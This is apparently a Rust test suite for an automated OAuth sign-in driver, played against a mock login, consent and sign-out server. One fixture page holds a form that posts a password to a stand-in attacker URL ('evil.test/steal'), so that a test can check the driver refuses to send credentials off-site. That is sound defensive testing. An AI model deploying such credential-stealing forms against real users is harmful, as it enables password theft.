//! Sign-in scripts, played against a server.

use serde_json::json;

use super::server::{Seen, Server, html, page, redirect};
use super::*;
use crate::driver::{Credentials, Intent, SignInError, SignInResult};
use crate::profile::SignIn;
use crate::protocol::{Answer, Request, Secret};

/// A login over two pages, a page in between with a meta refresh, and a consent page.
fn provider(seen: &Seen) -> String {
    let consent = "<title>Allow?</title><form id=f action=allow method=post><input type=hidden name=c value=3></form>\
                   <button form=f name=do value=no>No</button><button form=f name=do value=yes>Yes</button>\
                   <a class=deny href='/deny?x=1'>No, <b>thanks</b></a>";
    match seen.path() {
        "/login" => html(
            "<title>Who?</title><form action='../login/name' method=POST>\
             <input type=hidden name=csrf value='a+b &amp;'><input name=user><input name=off disabled value=1>\
             <select name=realm><option value=1>One<option value=2>Two</select>\
             <input type=checkbox name=keep value=yes><input type=radio name=r value=1 checked>\
             <input type=radio id=r2 name=r value=2><button name=go value=on>Next</button></form>",
        ),
        "/login/name" => page(
            "200 OK",
            "Content-Type: text/html\r\nSet-Cookie: step=2; Path=/\r\n",
            "<title>Password?</title><form method=post action=/login/password><input type=hidden name=csrf value=z>\
             <input type=password name=pass></form>",
        ),
        "/login/password" if seen.body() == "csrf=z&pass=p%C3%A4ss%7Busername%7D" => {
            html("<meta http-equiv=refresh content='0; url=/consent'>")
        }
        "/login/password" => {
            html("<title>Password?</title>Wrong<form method=post><input type=password name=pass>")
        }
        "/consent" => html(consent),
        "/allow" => redirect("303 See Other", "/callback?code=1"),
        "/deny?x=1" => redirect("303 See Other", "/callback?error=access_denied"),
        "/elsewhere" => html(
            "<form id=g action=https://evil.test/steal?x=1 method=post><input type=password name=p></form>",
        ),
        _ => page(
            "404 Not Found",
            "Content-Type: text/html\r\n",
            "<title>\n Lost\u{1b} \n now</title>",
        ),
    }
}

fn script() -> SignIn {
    serde_json::from_value(json!({
        "steps": [
            {"on": "input[name=user]", "fill": {"input[name=user]": "{username}"}, "select": {"select": "Two"},
             "check": ["[name=keep]", "#r2"], "expect": ["[name=csrf]"]},
            {"on": "input[name=pass]", "fill": {"input[name=pass]": "{password}"}},
            {"on": "#f", "page": "consent", "click": "button[value=yes]"},
            {"on": "#g"},
        ],
        "deny": [{"on": "a.deny", "page": "consent", "click": "a.deny b"}],
    }))
    .unwrap()
}

async fn play(server: &Server, path: &str, script: &SignIn, password: &str, intent: Intent) -> SignInResult {
    let marks = landmarks(&[&server.origin()]);
    let mut agent = agent();
    let at = agent
        .visit(
            "authorize",
            Request::get(url(&format!("{}{path}", server.origin()))),
            &marks,
        )
        .await;
    let credentials = Credentials {
        username: "al ice".into(),
        password: Secret::new(password),
        otp: None,
    };
    agent.sign_in(&at, script, &credentials, intent, &marks).await
}

const PASSWORD: &str = "päss{username}";

#[tokio::test]
async fn a_login_over_several_pages_ends_at_the_callback() {
    let server = Server::start(provider).await;
    let result = play(&server, "/login", &script(), PASSWORD, Intent::Accept).await;
    assert_eq!(result.outcome, Ok(()));
    let seen = server.seen();
    assert_eq!(seen[1].line, "POST /login/name HTTP/1.1");
    assert_eq!(
        seen[1].body(),
        "csrf=a%2Bb+%26&user=al+ice&realm=2&keep=yes&r=2&go=on"
    );
    assert_eq!(seen[1].header("origin"), Some(server.origin()));
    assert_eq!(
        seen[1].header("referer"),
        Some(format!("{}/login", server.origin()))
    );
    assert_eq!(seen[2].header("cookie").as_deref(), Some("step=2"));
    assert_eq!(seen[3].line, "GET /consent HTTP/1.1");
    assert_eq!(seen[4].body(), "c=3&do=yes");
    assert_eq!(seen.len(), 5);
    let last = result.exchanges.last().unwrap();
    assert_eq!(last.purpose, "consent");
    let target = last.last().unwrap().redirect().unwrap().unwrap();
    assert_eq!(target.query(), Some("code=1"));
    let purposes: Vec<_> = result.exchanges.iter().map(|e| e.purpose.as_str()).collect();
    assert_eq!(purposes, ["sign in", "sign in", "consent"]);
}

#[tokio::test]
async fn denial_comes_before_consent() {
    let server = Server::start(provider).await;
    let result = play(&server, "/login", &script(), PASSWORD, Intent::Deny).await;
    assert_eq!(result.outcome, Ok(()));
    assert_eq!(result.exchanges.last().unwrap().purpose, "deny");
    assert_eq!(server.lines().pop().unwrap(), "GET /deny?x=1 HTTP/1.1");
}

#[tokio::test]
async fn a_link_straight_to_the_client_is_chosen_and_not_followed() {
    let server = Server::start(|_| {
        html("<form><input name=user></form><a id=no href='/callback?error=access_denied&amp;state=s'>No</a>")
    })
    .await;
    let script: SignIn = serde_json::from_value(json!({
        "steps": [{"on": "[name=user]"}], "deny": [{"on": "#no", "click": "#no"}],
    }))
    .unwrap();
    let result = play(&server, "/login", &script, PASSWORD, Intent::Deny).await;
    assert_eq!(result.outcome, Ok(()));
    assert!(result.exchanges.is_empty());
    assert_eq!(server.lines(), ["GET /login HTTP/1.1"]);
    let marks = landmarks(&[&server.origin()]);
    let answer = Answer::of_link(&result.to_client.unwrap(), 200, &marks);
    let Some(Answer::Callback(callback)) = answer else {
        panic!("{answer:?}")
    };
    assert_eq!(callback.error(), Some("access_denied"));
    assert_eq!(callback.parameter("state"), Some("s"));
}

#[tokio::test]
async fn signing_out_answers_the_question_and_knows_no_password() {
    let server = Server::start(|seen| match seen.path() {
        "/bye" => html(
            "<form id=f action=/bye/yes method=post><input type=hidden name=x value=1></form>\
             <button form=f name=logout value=yes>Yes</button>",
        ),
        "/bye/yes" => html("<form id=f><input type=password name=pass></form>"),
        _ => html("Nobody is signed in."),
    })
    .await;
    let rules = json!([{"on": "button[name=logout]", "click": "button[value=yes]"}]);
    let script: SignIn = serde_json::from_value(json!({
        "steps": [{"on": "[name=pass]", "fill": {"[name=pass]": "{password}"}}], "sign_out": rules,
    }))
    .unwrap();
    let result = play(&server, "/bye", &script, PASSWORD, Intent::SignOut).await;
    assert_eq!(result.outcome, Ok(()));
    assert_eq!(result.exchanges.len(), 1);
    assert_eq!(result.exchanges[0].purpose, "sign out");
    assert_eq!(server.seen().last().unwrap().body(), "x=1&logout=yes");
    let result = play(&server, "/", &script, PASSWORD, Intent::SignOut).await;
    assert_eq!(result.outcome, Ok(()), "a page without a rule is the end");
    assert!(result.exchanges.is_empty());
}

#[tokio::test]
async fn a_wrong_password_is_sent_once() {
    let server = Server::start(provider).await;
    let result = play(&server, "/login", &script(), "wrong", Intent::Accept).await;
    let Err(error @ SignInError::Refused { .. }) = result.outcome else {
        panic!("{:?}", result.outcome)
    };
    assert!(error.to_string().contains("`Password?`"), "{error}");
    assert!(!format!("{error} {error:?}").contains("wrong\""));
    let tries = server
        .lines()
        .iter()
        .filter(|line| line.contains("/login/password"))
        .count();
    assert_eq!(tries, 1);
}

#[tokio::test]
async fn a_page_without_a_rule_is_named_without_its_query() {
    let server = Server::start(provider).await;
    let result = play(&server, "/lost?secret=1", &script(), PASSWORD, Intent::Accept).await;
    assert!(result.exchanges.is_empty());
    let message = result.outcome.unwrap_err().to_string();
    assert!(
        message.contains("`Lost now`") && message.contains("/lost "),
        "{message}"
    );
    assert!(!message.contains("secret"), "{message}");
}

#[tokio::test]
async fn a_page_without_a_rule_after_the_first_is_the_end() {
    let server = Server::start(provider).await;
    let mut short = script();
    short.steps.truncate(1);
    let result = play(&server, "/login", &short, PASSWORD, Intent::Accept).await;
    assert_eq!(result.outcome, Ok(()));
    assert_eq!(result.exchanges.len(), 1);
}

#[tokio::test]
async fn credentials_go_to_the_target_only() {
    let server = Server::start(provider).await;
    let result = play(&server, "/elsewhere", &script(), PASSWORD, Intent::Accept).await;
    let expected = SignInError::LeadsAway {
        on: "#g".into(),
        place: "https://evil.test/steal".into(),
    };
    assert_eq!(result.outcome, Err(expected));
    assert!(result.exchanges.is_empty());
}

#[tokio::test]
async fn what_the_page_lacks_is_named() {
    let server = Server::start(provider).await;
    for (rule, expected) in [
        (
            json!({"on": "form", "expect": ["#gone"]}),
            "nothing on the page `Who?` matches the selector `#gone`",
        ),
        (
            json!({"on": "form", "fill": {"[name=keep]": "x"}}),
            "finds `<input>`, not a text field",
        ),
        (
            json!({"on": "form", "select": {"select": "3"}}),
            "offers no option `3` (hint: it offers `1`, `2`)",
        ),
        (
            json!({"on": "form", "click": "title"}),
            "finds `<title>`, not a link or an enabled button",
        ),
        (json!({"on": "fo["}), "`fo[` in `sign_in` is no CSS selector"),
    ] {
        let script = serde_json::from_value(json!({"steps": [rule]})).unwrap();
        let result = play(&server, "/login", &script, PASSWORD, Intent::Accept).await;
        let message = result.outcome.unwrap_err().to_string();
        assert!(message.contains(expected), "{message}");
    }
    assert!(server.lines().iter().all(|line| line.starts_with("GET /login ")));
}

#[tokio::test]
async fn pages_that_come_back_are_bounded() {
    let server = Server::start(|seen| {
        let same = seen.path().starts_with("/same");
        let number = if same {
            ""
        } else {
            seen.path().trim_start_matches('/')
        };
        html(&format!(
            "<title>T</title><form action='{}1'><input type=submit></form>{number}",
            seen.path().split('?').next().unwrap()
        ))
    })
    .await;
    let rule = |on: &str| json!({"on": on, "page": "other"});
    let script: SignIn = serde_json::from_value(json!({"steps": [rule("form")], "pages": 2})).unwrap();
    let result = play(&server, "/", &script, "", Intent::Accept).await;
    assert_eq!(result.outcome, Err(SignInError::TooManyPages { pages: 2 }));
    let script: SignIn = serde_json::from_value(json!({"steps": [rule("form")]})).unwrap();
    let result = play(&server, "/", &script, "", Intent::Accept).await;
    assert!(
        matches!(result.outcome, Err(SignInError::Repeats { .. })),
        "{:?}",
        result.outcome
    );
    assert_eq!(result.exchanges.len(), 3);
}

#[tokio::test]
async fn a_redirect_that_nobody_followed_is_followed_first() {
    let server = Server::start(|seen| match seen.path() {
        "/authorize" => redirect("302 Found", "/login"),
        _ => provider(seen),
    })
    .await;
    let marks = landmarks(&[&server.origin()]);
    let mut agent = agent();
    let at = agent
        .send(
            "authorize",
            Request::get(url(&format!("{}/authorize", server.origin()))),
        )
        .await;
    let credentials = Credentials {
        username: "al ice".into(),
        password: Secret::new(PASSWORD),
        otp: None,
    };
    // On another thread: what runs a sign-in must be able to move.
    let task = tokio::spawn(async move {
        agent
            .sign_in(&at, &script(), &credentials, Intent::Accept, &marks)
            .await
    });
    assert_eq!(task.await.unwrap().outcome, Ok(()));
}
